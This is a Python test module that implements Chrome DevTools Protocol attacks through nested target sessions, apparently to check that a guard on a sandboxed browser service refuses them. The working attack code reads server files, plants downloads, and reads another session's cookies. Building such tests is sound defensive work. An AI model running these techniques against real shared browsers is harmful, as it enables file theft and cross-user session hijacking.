"""DevTools attacks through nested sessions, written once for every client that runs Python.

The source of this file is also sent as code: run in a session's sandbox (python code, and
bash's ``python3``), so it uses the standard library only, plus ``websockets`` where it opens a
raw socket. A client is ``send(method, params) -> result`` on its browser session (raising
with the browser's or the guard's message) and a queue of the ``Target.receivedMessageFromTarget``
events it gets: Playwright's ``CDPSession`` (:func:`over_playwright`) or a raw WebSocket
(:func:`over_websocket`).

An attack opens tabs, attaches to the first in the nested mode (``flatten: false``) and, for
two levels, from inside that session to the second the same way, then sends its commands
wrapped in ``Target.sendMessageToTarget`` once per level: :func:`attack` returns what the
browser answered or who refused, and anything the guard should have kept out (a server file's
text) in ``breach``.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable
from typing import Any

Send = Callable[[str, dict[str, Any]], Awaitable[dict[str, Any]]]
_readers: set[asyncio.Future[None]] = set()  # the raw sockets' readers, kept alive

UPLOAD_PAGE = "data:text/html,<input type=file>"
DOWNLOAD_JS = """(() => {
  const a = document.createElement("a");
  a.href = URL.createObjectURL(new Blob(["planted by a nested session"]));
  a.download = "planted.txt";
  document.body.append(a); a.click(); a.remove();
})()"""


class Nested:
    """Commands to a tab through ``len(chain)`` levels of nested sessions."""

    def __init__(self, send: Send, events: asyncio.Queue[dict[str, Any]]) -> None:
        self.send = send
        self.events = events
        self.chain: list[str] = []
        self.ids = 1000

    async def open(self, depth: int, own_target: str | None = None) -> None:
        """Attach ``depth`` levels deep: to new tabs, or each time to ``own_target``."""
        if own_target is not None:
            targets = [own_target] * depth
        else:
            targets = [
                (await self.send("Target.createTarget", {"url": "about:blank"}))["targetId"]
                for _ in range(depth)
            ]
        first = {"targetId": targets[0], "flatten": False}
        self.chain.append((await self.send("Target.attachToTarget", first))["sessionId"])
        for target in targets[1:]:
            inner = await self.call("Target.attachToTarget", {"targetId": target, "flatten": False})
            self.chain.append(inner["sessionId"])

    async def call(
        self, method: str, params: dict[str, Any], session: str | None = None
    ) -> dict[str, Any]:
        """Send a command to the innermost tab (or, with ``session``, to a flat session
        attached from inside it)."""
        self.ids += 1
        message: dict[str, Any] = {"id": self.ids, "method": method, "params": params}
        if session is not None:
            message["sessionId"] = session
        for session in reversed(self.chain[1:]):
            wrapped = {"sessionId": session, "message": json.dumps(message)}
            message = {"id": self.ids, "method": "Target.sendMessageToTarget", "params": wrapped}
        outer = {"sessionId": self.chain[0], "message": json.dumps(message)}
        await self.send("Target.sendMessageToTarget", outer)
        while True:
            event = await asyncio.wait_for(self.events.get(), 20)
            answer = _unwrap(event, len(self.chain) - 1)
            if answer is not None and answer.get("id") == self.ids:
                if "error" in answer:
                    raise RuntimeError(answer["error"].get("message"))
                return dict(answer.get("result") or {})


def _unwrap(params: dict[str, Any], levels: int) -> dict[str, Any] | None:
    """The message inside ``levels`` more ``receivedMessageFromTarget`` wrappings, or None."""
    message = json.loads(params.get("message") or "{}")
    if levels == 0:
        return dict(message)
    if message.get("method") != "Target.receivedMessageFromTarget":
        return None
    return _unwrap(message.get("params") or {}, levels - 1)


async def attack(
    send: Send,
    events: asyncio.Queue[dict[str, Any]],
    *,
    depth: int,
    payload: str,
    secret: str,
    download_dir: str,
    own_target: str | None = None,
) -> dict[str, Any]:
    """Run one nested attack; ``payload`` is ``file`` (open a server file in the tab and read
    it), ``upload`` (hand a file input a server file and read it), ``download`` (write a
    download into ``download_dir``) or ``cookie`` (on a shared browser: find the target whose
    URL holds ``secret``, another session's, and read its ``document.cookie``). With
    ``own_target`` the levels are sessions of that target (a page of the client's own, with
    ``send`` on its flat session), not of new tabs."""
    nested = Nested(send, events)
    said: dict[str, Any] = {"refused": None, "breach": None}
    try:
        await nested.open(depth, own_target)
        if payload == "file":
            await nested.call("Page.navigate", {"url": "file://" + secret})
            await asyncio.sleep(1)
            text = "document.documentElement.innerText"
            said["breach"] = await _value(nested, text)
        elif payload == "upload":
            await nested.call("Page.navigate", {"url": UPLOAD_PAGE})
            await asyncio.sleep(1)
            root = (await nested.call("DOM.getDocument", {}))["root"]["nodeId"]
            found = await nested.call("DOM.querySelector", {"nodeId": root, "selector": "input"})
            await nested.call("DOM.setFileInputFiles", {"files": [secret], **found})
            said["breach"] = await _value(nested, "document.querySelector('input').files[0].text()")
        elif payload == "cookie":
            said["breach"] = await _their_cookie(nested, secret)
        else:
            behavior = {"behavior": "allow", "downloadPath": download_dir}
            await nested.call("Page.setDownloadBehavior", behavior)
            await nested.call("Page.navigate", {"url": "data:text/html,<p>download</p>"})
            await asyncio.sleep(1)
            await nested.call("Runtime.evaluate", {"expression": DOWNLOAD_JS})
            await asyncio.sleep(2)
            said["breach"] = "asked to download into " + download_dir
    except Exception as exc:  # refused, by the guard (or by the browser, on the old code)
        said["refused"] = str(exc)
    return said


async def _their_cookie(nested: Nested, url_part: str) -> str:
    infos = (await nested.call("Target.getTargets", {}))["targetInfos"]
    theirs = [info["targetId"] for info in infos if url_part in info["url"]]
    if not theirs:
        return "listed no other session's target"
    attached = await nested.call("Target.attachToTarget", {"targetId": theirs[0], "flatten": True})
    params = {"expression": "document.cookie", "returnByValue": True}
    answer = await nested.call("Runtime.evaluate", params, session=attached["sessionId"])
    return "read their cookie: " + str(answer.get("result", {}).get("value"))


async def cross_context_flat(
    send: Send, *, victim_url_part: str, victim_target: str, victim_context: str
) -> dict[str, str]:
    """On the session of the client's own page (``send``), a flat session one level below its
    browser session: list targets, attach to another session's page, open a tab in its context
    and (two levels down) attach to that page from a tab of the client's own. Returns what each
    step got: the browser's answer or who refused."""
    said: dict[str, str] = {}
    infos = (await send("Target.getTargets", {}))["targetInfos"]
    listed = [info["url"] for info in infos if victim_url_part in info["url"]]
    said["Target.getTargets"] = f"listed {listed}" if listed else "listed none of theirs"
    steps: list[tuple[str, dict[str, Any]]] = [
        ("Target.attachToTarget", {"targetId": victim_target, "flatten": True}),
        ("Target.createTarget", {"url": "about:blank", "browserContextId": victim_context}),
        ("Target.getTargetInfo", {"targetId": victim_target}),
        ("Target.closeTarget", {"targetId": victim_target}),
    ]
    for method, params in steps:
        try:
            said[method] = "ANSWERED " + json.dumps(await send(method, params))
        except Exception as exc:
            said[method] = str(exc)
    return said


async def _value(nested: Nested, expression: str) -> str:
    params = {"expression": expression, "awaitPromise": True, "returnByValue": True}
    answer = await nested.call("Runtime.evaluate", params)
    return str(answer.get("result", {}).get("value"))


async def refused_methods(send: Send, methods: dict[str, dict[str, Any]]) -> dict[str, str]:
    """Send each method on the browser session: method -> the error it got, or ``ANSWERED``."""
    said = {}
    for method, params in methods.items():
        try:
            await send(method, params)
            said[method] = "ANSWERED"
        except Exception as exc:
            said[method] = str(exc)
    return said


async def over_playwright(cdp: Any) -> tuple[Send, asyncio.Queue[dict[str, Any]]]:
    """A Playwright browser ``CDPSession`` as a client."""
    events: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
    cdp.on("Target.receivedMessageFromTarget", events.put_nowait)

    async def send(method: str, params: dict[str, Any]) -> dict[str, Any]:
        return dict(await cdp.send(method, params))

    return send, events


async def over_websocket(url: str) -> tuple[Any, asyncio.Queue[dict[str, Any]], Any]:
    """A raw WebSocket to a DevTools URL as a client: ``send`` on its browser session (or, with
    ``session=``, on a flat session it attached), the nested sessions' events, and the
    connection, to close."""
    import websockets

    connection = await websockets.connect(url, max_size=None, open_timeout=10)
    events: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
    waiting: dict[int, asyncio.Future[dict[str, Any]]] = {}
    ids = iter(range(1, 1 << 30))

    async def read() -> None:
        async for text in connection:
            message = json.loads(text)
            if message.get("id") in waiting:
                waiting.pop(message["id"]).set_result(message)
            elif message.get("method") == "Target.receivedMessageFromTarget":
                events.put_nowait(message["params"])

    _readers.add(asyncio.ensure_future(read()))

    async def send(
        method: str, params: dict[str, Any], session: str | None = None
    ) -> dict[str, Any]:
        call = next(ids)
        waiting[call] = asyncio.get_running_loop().create_future()
        message = {"id": call, "method": method, "params": params}
        if session is not None:
            message["sessionId"] = session
        await connection.send(json.dumps(message))
        answer = await asyncio.wait_for(waiting[call], 20)
        if "error" in answer:
            raise RuntimeError(answer["error"].get("message"))
        return dict(answer.get("result") or {})

    return send, events, connection


async def own_page_session(send: Any, own_url_part: str) -> tuple[Send, str]:
    """``send`` on a flat session of the client's own page (the one whose URL holds
    ``own_url_part``), over a raw socket's ``send``, and the page's target id."""
    infos = (await send("Target.getTargets", {}))["targetInfos"]
    mine = next(i["targetId"] for i in infos if own_url_part in i["url"] and i["type"] == "page")
    session = (await send("Target.attachToTarget", {"targetId": mine, "flatten": True}))[
        "sessionId"
    ]

    async def on_page(method: str, params: dict[str, Any]) -> dict[str, Any]:
        return dict(await send(method, params, session=session))

    return on_page, mine
